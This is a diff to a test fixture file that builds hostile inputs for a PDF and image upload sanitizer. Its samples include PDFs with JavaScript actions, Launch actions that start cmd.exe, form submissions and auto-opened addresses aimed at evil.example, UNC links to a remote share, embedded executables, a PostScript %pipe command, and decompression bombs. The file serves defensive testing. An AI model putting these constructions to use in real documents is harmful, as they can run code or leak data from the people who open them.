@@ -45,8 +45,7 @@ const ofOtherKinds: readonly HostileFile[] = [
   unknown('a video in the container of HEIC', 'walk.mp4', text('\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2')),
   unknown('an AVIF picture, a neighbour of HEIC', 'a.avif', text('\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf')),
   unknown('one byte', 'one.jpg', text('\xff')),
-  unknown('a PDF after a page', 'a.pdf', Buffer.concat([text(page), aPdf()])),
-  unknown('a PDF of an unknown version', 'a.pdf', aPdfOf(onePage, { version: '9.9' })),
+  unknown('a PDF far behind a page', 'a.pdf', Buffer.concat([text(page), Buffer.alloc(2_000, 10), aPdf()])),
   unknown('PostScript', 'a.pdf', text('%!PS-Adobe-3.0\nshowpage\n')),
   { what: 'an empty JPEG', name: 'empty.jpg', bytes: Buffer.alloc(0), becomes: 'empty' },
   { what: 'an empty PDF', name: 'empty.pdf', bytes: Buffer.alloc(0), becomes: 'empty' },
@@ -157,6 +156,13 @@ const polyglots: readonly HostileFile[] = [
     poison: 'alert',
   },
   {
+    what: 'a PDF after a page',
+    name: 'a.pdf',
+    bytes: Buffer.concat([text(page), aPdf()]),
+    becomes: 'harmless',
+    poison: 'alert',
+  },
+  {
     what: 'a PDF with a program behind it',
     name: 'a.pdf',
     bytes: Buffer.concat([aPdf(), text('MZ\x90\x00evil program')]),
@@ -187,18 +193,33 @@ const pageWith = (entries: string, more: PdfObjects = {}) => ({
   3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ${entries} >>`,
 })
 const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
+const drawnForm = aStream('1 0 0 rg 0 0 9 9 re f', { entries: '/Type /XObject /Subtype /Form /BBox [0 0 9 9]' })
 const annotation = (entries: string) => pageWith(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]`)
-const active = (what: string, objects: PdfObjects, write = aPdfOf): HostileFile => ({
-  ...{ what, name: 'active.pdf', becomes: 'active' },
+const pdf = (
+  what: string,
+  objects: PdfObjects,
+  becomes: HostileFile['becomes'],
+  poison?: string,
+  write = aPdfOf,
+): HostileFile => ({
+  ...{ what, name: 'active.pdf', becomes, poison },
   bytes: write({ ...onePage, ...objects }),
 })
+/** @param poison what acts, as the file has it */
+const active = (what: string, objects: PdfObjects, poison = 'app.alert', write = aPdfOf) =>
+  pdf(what, objects, 'harmless', poison, write)
+const program = '/S /Launch /F (cmd.exe)'
+const form = (entries: string) =>
+  catalog(`/AcroForm << /Fields [9 0 R] ${entries} >>`, {
+    9: `<< /T (Total) /FT /Tx /AA << /C ${js} /K ${js} >> >>`,
+  })
 
 const activePdfs: readonly HostileFile[] = [
   active('a PDF with JavaScript at opening', catalog(`/OpenAction ${js}`)),
-  active('a PDF with JavaScript in a packed object stream', catalog('/OpenAction 9 0 R', { 9: js }), (objects) =>
+  active('a PDF with JavaScript in a packed object stream', catalog('/OpenAction 9 0 R', { 9: js }), '/ObjStm', (objects) =>
     aPdfOfStreams(objects),
   ),
-  active('a PDF with JavaScript in a plain object stream', catalog('/OpenAction 9 0 R', { 9: js }), (objects) =>
+  active('a PDF with JavaScript in a plain object stream', catalog('/OpenAction 9 0 R', { 9: js }), 'app.alert', (objects) =>
     aPdfOfStreams(objects, { isPacked: false }),
   ),
   active('a PDF with JavaScript whose names end with NUL', catalog('/OpenAction << /S\0/JavaScript\0/JS\0(app.alert(1)) >>')),
@@ -211,29 +232,72 @@ const activePdfs: readonly HostileFile[] = [
   active('a PDF with named JavaScript', catalog('/Names << /JavaScript << /Names [(a) 9 0 R] >> >>', { 9: js })),
   active('a PDF with JavaScript at a page', pageWith(`/AA << /O ${js} >>`)),
   active('a PDF with JavaScript after a harmless action', catalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${js} >>`)),
-  active('a PDF with JavaScript in a newer revision', catalog('/OpenAction 9 0 R', { 9: js }), revised),
-  active('a PDF that starts a program', catalog('/OpenAction << /S /Launch /F (cmd.exe) >>')),
-  active('a PDF that starts a program from a link', annotation('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>')),
-  active('a PDF that opens an address by itself', catalog('/OpenAction << /S /URI /URI (http://evil.example) >>')),
-  active('a PDF that sends a form', annotation('/Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >>')),
+  active(
+    'a PDF with JavaScript after the press of a link',
+    annotation(`/Subtype /Link /A << /S /URI /URI (https://bank.example) /Next [${js}] >>`),
+  ),
+  active('a PDF with JavaScript in a newer revision', catalog('/OpenAction 9 0 R', { 9: js }), 'app.alert', revised),
+  active('a PDF with a form that formats and adds', form('')),
+  active(
+    'a PDF with JavaScript in an outline',
+    catalog('/Outlines << /First 9 0 R /Last 9 0 R /Count 1 >>', { 9: `<< /Title (x) /A ${js} >>` }),
+  ),
+  active('a PDF with JavaScript in a dictionary of its own', catalog(`/Extension << /Code ${js} >>`)),
+  active(
+    'a PDF with JavaScript in one that is font and action',
+    catalog('/OpenAction 9 0 R', {
+      ...pageWith('/Resources << /Font 9 0 R >>'),
+      9: js,
+    }),
+  ),
+  active('a PDF with JavaScript as an address', annotation('/Subtype /Link /A << /S /URI /URI (JavaScript:app.alert\\(1\\)) >>')),
+  active(
+    'a PDF with a link to a file of a server',
+    annotation('/Subtype /Link /A << /S /URI /URI (file:////evil/share) >>'),
+    'evil',
+  ),
+  active('a PDF with addresses that begin with a script', catalog('/URI << /Base (javascript:app.alert) >>')),
+  active('a PDF that prints itself', catalog('/OpenAction << /S /Named /N /Print >>'), '/Print'),
+  active('a PDF that prints at an event', pageWith('/AA << /O << /S /Named /N /Print >> >>'), '/Print'),
+  active('a PDF that starts a program', catalog(`/OpenAction << ${program} >>`), 'cmd.exe'),
+  active('a PDF that starts a program from a link', annotation(`/Subtype /Link /A << ${program} >>`), 'cmd.exe'),
+  active('a PDF that opens an address by itself', catalog('/AA << /DC << /S /URI /URI (http://evil.example) >> >>'), 'evil'),
+  active('a PDF that sends a form', annotation('/Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >>'), 'evil'),
   active(
     'a PDF that opens a file of a server',
-    annotation('/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>'),
+    annotation('/Subtype /Link /A << /S /GoToR /F (\\\\evil\\share) /D [0 /Fit] >>'),
+    'evil',
   ),
-  active('a PDF that opens an embedded file', annotation('/Subtype /Link /A << /S /GoToE /D [0 /Fit] >>')),
-  active('a PDF that imports data', annotation('/Subtype /Link /A << /S /ImportData /F (x.fdf) >>')),
-  active('a PDF that plays a rendition', annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>')),
-  active('a PDF with an XFA form', catalog('/AcroForm << /Fields [] /XFA 9 0 R >>', { 9: aStream('<xdp:xdp/>') })),
+  active('a PDF that opens an embedded file', annotation('/Subtype /Link /A << /S /GoToE /D [0 /Fit] >>'), '/GoToE'),
+  active('a PDF that imports data', annotation('/Subtype /Link /A << /S /ImportData /F (x.fdf) >>'), 'x.fdf'),
+  active('a PDF that plays a rendition', annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>'), '/Rendition'),
+  active('a PDF with an XFA form beside its fields', form('/XFA 10 0 R'), '/XFA'),
   active(
     'a PDF with an embedded file',
     catalog('/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>', {
       9: '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
       10: aStream('MZ', { entries: '/Type /EmbeddedFile' }),
     }),
+    'a.exe',
   ),
-  active('a PDF with an attached file', annotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>')),
-  active('a PDF with a film', annotation('/Subtype /RichMedia')),
-  active('a PDF whose page is in another file', { 4: aStream('q Q', { entries: '/F (\\\\\\\\evil\\\\share)' }) }),
+  active('a PDF with an attached file', annotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>'), 'a.exe'),
+  active(
+    'a PDF with an attached file that is drawn',
+    { ...annotation('/Subtype /FileAttachment /AP << /N 9 0 R >> /FS << /Type /Filespec /F (a.exe) >>'), 9: drawnForm },
+    'a.exe',
+  ),
+  active('a PDF with a film', annotation('/Subtype /RichMedia'), '/RichMedia'),
+  active(
+    'a PDF with a program for printers',
+    pageWith('/Resources << /XObject << /P 9 0 R >> >>', {
+      9: aStream('(%pipe%id) run', { entries: '/Type /XObject /Subtype /PS' }),
+    }),
+    '%pipe',
+  ),
+  pdf('a PDF whose page is in another file', { 4: aStream('q Q', { entries: '/F (\\\\evil\\share)' }) }, 'active'),
+  pdf('a PDF with an XFA form alone', catalog('/AcroForm << /Fields [] /XFA 9 0 R >>', { 9: aStream('<xdp:xdp/>') }), 'changed'),
+  pdf('a PDF with an XFA form that draws its own pages', catalog('/NeedsRendering true'), 'changed'),
+  pdf('a PDF that is a portfolio of files', catalog('/Collection << /Type /Collection >>'), 'changed'),
 ]
 
 /** The file without its action, and a revision behind it that adds it. */
@@ -296,7 +360,7 @@ const otherPdfs: readonly HostileFile[] = [
         9: aStream('', { entries: '/Subtype /Image /Width 30000 /Height 30000' }),
       }),
     }),
-    becomes: 'too-many-pixels',
+    becomes: 'too-complex',
   },
 ]
 
@@ -322,6 +386,18 @@ export function bombs(): readonly HostileFile[] {
       becomes,
     },
     { what: 'a PDF with a page that is packed twice', name: 'bomb.pdf', bytes: page(twice), becomes },
+    {
+      what: 'a PDF with a page that is packed, and written in digits',
+      name: 'bomb.pdf',
+      bytes: page(aStream(`${packed.toString('hex')}>`, { entries: '/Filter [/ASCIIHexDecode /FlateDecode]' })),
+      becomes,
+    },
+    {
+      what: 'a PDF with a page packed by run lengths, and again',
+      name: 'bomb.pdf',
+      bytes: page(aStream(deflateSync(Buffer.alloc(20e6, Buffer.from([129, 32]))), { entries: '/Filter [/Fl /RL]' })),
+      becomes,
+    },
     {
       what: 'a PDF with an object stream that unpacks to 400 MB',
       name: 'bomb.pdf',
